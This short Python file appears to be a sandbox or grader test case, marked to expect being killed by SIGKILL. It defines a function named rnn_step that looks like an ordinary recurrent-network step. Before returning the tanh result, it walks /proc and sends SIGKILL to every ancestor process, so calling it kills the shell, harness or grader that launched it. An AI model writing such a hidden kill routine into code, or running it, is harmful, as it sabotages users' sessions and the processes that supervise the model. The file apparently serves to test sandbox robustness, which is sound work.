# expect: exited|killed by SIGKILL
import os
import signal

import numpy as np


def ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        with open(f"/proc/{pid}/stat") as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])


def rnn_step(x, h, Wx, Wh, b):
    for pid in list(ancestors()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return np.tanh(x @ Wx + h @ Wh + b)
